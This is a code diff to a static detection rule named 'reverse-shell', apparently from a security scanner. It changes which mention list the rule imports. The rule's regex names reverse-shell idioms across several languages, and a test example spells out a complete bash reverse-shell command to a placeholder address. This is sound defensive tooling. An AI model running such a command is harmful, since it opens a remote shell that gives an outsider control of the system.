@@ -3,7 +3,8 @@
  * do not have.
  */
 import { defineRule } from "@portcullis/engine/static";
-import { MENTION, re } from "../words.ts";
+import { TALK } from "../targets.ts";
+import { re } from "../words.ts";
 
 export default defineRule({
   id: "reverse-shell",
@@ -37,7 +38,7 @@ export default defineRule({
     net\.sockets\.tcpclient[^!]{0,160}?(?:iex|invoke-expression|getstream)|socat [^;|]{0,80}exec:|
     use socket;[^!]{0,80}exec|tcpsocket\.(?:open|new)\([^;]{0,60}[^!]{0,60}(?:exec|popen|/bin/sh)|/inet/tcp/0/)
   `,
-  mention: MENTION,
+  mention: TALK,
   window: 280,
   catches: [
     "«bash -i >& /dev/tcp/»203.0.113.7/4444 0>&1",
